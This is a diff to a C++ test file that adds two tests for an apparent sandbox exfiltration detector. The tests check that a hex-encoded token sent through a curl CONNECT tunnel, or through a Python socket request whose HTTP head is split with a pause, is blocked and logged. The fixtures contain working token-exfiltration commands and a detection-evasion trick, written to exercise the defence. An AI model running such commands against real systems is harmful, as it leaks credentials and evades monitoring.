@@ -257,6 +257,50 @@ TEST_F(RawExfilRun, ARawStreamsFirstFlightIsScanned) {
   EXPECT_EQ(exfil[0].value("method", ""), "TCP");
 }
 
+// Plain HTTP inside a CONNECT tunnel is relayed as bytes: its first head is searched as a
+// stream's first flight is, so the placeholder's hex in the URL is refused there too.
+TEST_F(RawExfilRun, PlainHttpInsideAConnectTunnelIsScanned) {
+  auto r = sh(policy(),
+              "H=$(printf %s \"$MY_TOKEN\" | hex)\n"
+              "curl -sS -m 20 -p http://echo.test:" +
+                  echo() + "/q?d=$H 2>/dev/null; echo \" curl $?\"\n");
+  ASSERT_EQ(r.exit_code(), 0) << r.out << r.err;
+  EXPECT_THAT(r.out, Not(HasSubstr("GET /q"))) << "the echo server's answer came back";
+  auto exfil = f_.last_events("net.exfil");
+  ASSERT_EQ(exfil.size(), 1u) << r.out;
+  EXPECT_EQ(exfil[0].value("mode", ""), "connect");
+  EXPECT_EQ(exfil[0].value("encoding", ""), "hex");
+}
+
+// A request head sent slowly (a pause longer than the peek after "GET /") is still read whole
+// and judged as HTTP: the placeholder's hex in its URL is refused, not relayed as a stream.
+TEST_F(RawExfilRun, ASlowRequestHeadIsStillScanned) {
+  auto r = sh(policy(),
+              "H=$(printf %s \"$MY_TOKEN\" | hex)\n"
+              "python3 - echo.test " +
+                  echo() +
+                  " $H <<'EOF'\n"
+                  "import socket, sys, time\n"
+                  "s = socket.create_connection((sys.argv[1], int(sys.argv[2])), "
+                  "timeout=10)\n"
+                  "s.sendall(b'GET /')\n"
+                  "time.sleep(0.7)\n"
+                  "s.sendall(('q?d=%s HTTP/1.1\\r\\nHost: echo.test\\r\\n\\r\\n' % "
+                  "sys.argv[3]).encode())\n"
+                  "try:\n"
+                  "    print(s.recv(4096).split(b'\\r\\n')[0].decode())\n"
+                  "except OSError:\n"
+                  "    print('reset')\n"
+                  "EOF\n");
+  ASSERT_EQ(r.exit_code(), 0) << r.out << r.err;
+  EXPECT_THAT(r.out, HasSubstr("403")) << r.err;
+  EXPECT_THAT(r.out, Not(HasSubstr("GET /q"))) << "the echo server got the head";
+  auto exfil = f_.last_events("net.exfil");
+  ASSERT_EQ(exfil.size(), 1u) << r.out;
+  EXPECT_EQ(exfil[0].value("channel", ""), "url");
+  EXPECT_EQ(exfil[0].value("encoding", ""), "hex");
+}
+
 TEST_F(RawExfilRun, OnExfilKillEndsTheSessionOnADnsCarrier) {
   RunSpec spec;
   spec.deadline = std::chrono::seconds(90);
